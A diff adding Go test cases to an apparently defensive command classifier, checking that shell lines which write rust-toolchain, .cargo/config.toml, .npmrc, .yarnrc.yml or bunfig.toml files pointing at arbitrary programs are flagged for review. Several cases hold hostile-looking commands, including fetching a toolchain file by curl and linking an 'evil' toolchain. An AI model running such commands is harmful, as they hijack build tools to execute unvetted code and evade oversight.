@@ -122,3 +122,37 @@ var installBinGuardedCases = []evalCase{
 }
 
 func TestInstallBinGuardedCases(t *testing.T) { runGuardedCases(t, installBinGuardedCases) }
+
+// toolchainCases (fx32c): a rust-toolchain file made earlier in the line
+// chooses the programs a later cargo (or make, npm …) runs through
+// rustup, unless the line shows its text and it names no path; `rustup
+// toolchain link` and a project's bunfig.toml (its preload scripts, its
+// registry) run later. .cargo/config.toml, .npmrc, .yarnrc.yml and
+// mise's files were runs-later already.
+var toolchainCases = []evalCase{
+	ask("printf '[toolchain]\\npath = \"/tmp/tc\"\\n' > rust-toolchain.toml && cargo build", "cmd.unreadable"),
+	ask("cp /tmp/rt.toml rust-toolchain.toml && cargo build", "cmd.unreadable"),
+	ask("curl -so rust-toolchain.toml https://x.io/r && cargo test", "cmd.unreadable"),
+	ask("tee rust-toolchain < /tmp/r && cargo build", "cmd.unreadable"),
+	ask("cat > rust-toolchain.toml <<'EOF'\n[toolchain]\npath = \"/tmp/tc\"\nEOF\ncargo build", "cmd.unreadable"),
+	ask("curl -so rust-toolchain.toml https://x.io/r && make", "cmd.unreadable"),
+	ask("rustup toolchain link evil /tmp/tc", "cmd.unreadable"),
+	ask("echo 'preload = [\"./x.ts\"]' > bunfig.toml && bun test", "cmd.unreadable"),
+	ask("printf '[test]\\npreload = [\"./x.ts\"]\\n' > bunfig.toml", "cmd.unreadable"),
+	ask("cp /tmp/b.toml bunfig.toml && bun run dev", "cmd.unreadable"),
+	ask("printf '[build]\\nrustc-wrapper = \"/tmp/w\"\\n' > .cargo/config.toml && cargo build", "cmd.unreadable"),
+	ask("echo 'script-shell=/tmp/x' > .npmrc && npm test", "cmd.unreadable"),
+	ask("echo 'yarnPath: /tmp/y.cjs' > .yarnrc.yml && yarn install", "cmd.unreadable"),
+	allow("echo nightly > rust-toolchain && cargo build"),
+	allow("printf '[toolchain]\\nchannel = \"1.75\"\\ncomponents = [\"clippy\"]\\n' > rust-toolchain.toml && cargo clippy"),
+	allow("cp /tmp/rt.toml rust-toolchain.toml && git add rust-toolchain.toml"),
+	allow("cat rust-toolchain.toml"),
+	allow("cargo build"),
+	allow("bun test"),
+	allow("cat bunfig.toml"),
+	allow("rustup default stable"),
+	allow("rustup toolchain install nightly"),
+	allow("cargo +nightly build"),
+}
+
+func TestToolchainCases(t *testing.T) { runCases(t, toolchainCases) }
